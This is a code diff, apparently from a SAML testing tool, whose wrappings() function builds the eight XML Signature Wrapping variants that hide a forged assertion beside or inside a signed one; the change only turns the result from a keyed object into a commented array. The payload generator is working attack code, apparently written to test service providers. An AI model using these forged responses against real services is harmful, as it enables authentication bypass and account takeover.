@@ -61,14 +61,14 @@ export async function respond(said: Said): Promise<string> {
     assertionConsumerService: [{ Binding: Constants.namespace.binding.post, Location: acsUrl }],
   });
   const made = await idp.createLoginResponse(sp, { extract: {} }, 'post', {}, { customTagReplacement: () => ({ id: 'x', context: xml }) });
-  return Buffer.from(String(made.context), 'base64').toString();
+  return Buffer.from(made.context, 'base64').toString();
 }
 
 let ids = 0;
 const nextId = () => `${Date.now()}${ids++}`;
 
 /** What is wrapped around the signed assertion, so that a careless reader takes the wrong one: XSW 1 to 8 of the SAML Raider. */
-export function wrappings(xml: string): Record<string, string> {
+export function wrappings(xml: string): string[] {
   const [assertion = ''] = /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml) ?? [];
   const [signature = ''] = /<ds:Signature .*?<\/ds:Signature>/s.exec(assertion) ?? [];
   const bare = assertion.replace(signature, '');
@@ -77,24 +77,24 @@ export function wrappings(xml: string): Record<string, string> {
   const around = (inner: string) => xml.replace(assertion, inner);
   const inside = (object: string) => signature.replace('</ds:Signature>', `<ds:Object>${object}</ds:Object></ds:Signature>`);
   const evilResponse = xml.replace(assertion, evil).replace(/ ID="_response\w+"/, ' ID="_evilResponse"');
-  return {
-    'XSW 1: the signed response inside the signature of a forged one': evilResponse.replace(
-      '</samlp:Status>',
-      `</samlp:Status>${inside(xml)}`,
-    ),
-    'XSW 2: the signed response beside the signature of a forged one': evilResponse.replace(
-      '</samlp:Status>',
-      `</samlp:Status>${xml}${signature}`,
-    ),
-    'XSW 3: a forged assertion before the signed one': around(evil + assertion),
-    'XSW 4: a forged assertion around the signed one': around(evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
-    'XSW 5: the signature in a forged assertion, the signed one behind': around(withSignature(evil, signature) + bare),
-    'XSW 6: the signed assertion inside the signature of a forged one': around(withSignature(evil, inside(bare))),
-    'XSW 7: a forged assertion in an extension': around(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
-    'XSW 8: the signed assertion in an object of the signature': around(
-      withSignature(evil, signature.replace('</ds:Signature>', `<ds:Object Id="o">${bare}</ds:Object></ds:Signature>`)),
-    ),
-  };
+  return [
+    // 1: the signed response inside the signature of a forged one.
+    evilResponse.replace('</samlp:Status>', `</samlp:Status>${inside(xml)}`),
+    // 2: the signed response beside the signature of a forged one.
+    evilResponse.replace('</samlp:Status>', `</samlp:Status>${xml}${signature}`),
+    // 3: a forged assertion before the signed one.
+    around(evil + assertion),
+    // 4: a forged assertion around the signed one.
+    around(evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
+    // 5: the signature in a forged assertion, the signed one behind.
+    around(withSignature(evil, signature) + bare),
+    // 6: the signed assertion inside the signature of a forged one.
+    around(withSignature(evil, inside(bare))),
+    // 7: a forged assertion in an extension.
+    around(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
+    // 8: the signed assertion in an object of the signature.
+    around(withSignature(evil, signature.replace('</ds:Signature>', `<ds:Object Id="o">${bare}</ds:Object></ds:Signature>`))),
+  ];
 }
 
 export const sha1 = Constants.algorithms.signature.RSA_SHA1;
